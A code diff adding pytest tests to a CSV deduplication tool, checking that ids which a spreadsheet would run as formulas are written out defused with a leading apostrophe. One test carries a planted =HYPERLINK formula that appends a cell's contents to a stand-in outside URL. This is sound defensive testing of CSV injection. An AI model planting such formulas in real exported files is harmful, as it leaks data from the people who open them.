@@ -254,6 +254,28 @@ def test_bad_input_is_a_clear_error_and_writes_nothing(tmp_path, content, messag
     assert list(tmp_path.iterdir()) == [tmp_path / "people.csv"]  # no temporary left over
 
 
+def test_an_id_that_a_spreadsheet_would_run_as_a_formula_is_written_defused(tmp_path):
+    # A list shared by a partner may carry planted ids; the analyst opens the clusters in a
+    # spreadsheet program.
+    planted = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
+    content = f'record_id,name\n"{planted.replace(chr(34), chr(34) * 2)}",김혜송\nb,Kim Hye-song\n'
+    result, out = run(tmp_path, content.encode())
+    assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["record_id"] == "'" + planted
+    assert {row["cluster_id"] for row in rows} == {"'" + planted}  # its cluster is named so too
+    assert not any(cell.startswith("=") for row in rows for cell in row.values())
+
+
+def test_the_spreadsheet_cell_helper_keeps_its_examples_true():
+    import doctest
+
+    from kirok.lib import spreadsheet_cells
+
+    assert doctest.testmod(spreadsheet_cells).failed == 0
+
+
 def test_a_paragraph_in_a_year_cell_is_quoted_short_in_the_error():
     paragraph = "그는 1984년에 태어났다고 한다. " * 500
     with pytest.raises(dedupe_module.InputError) as refused:
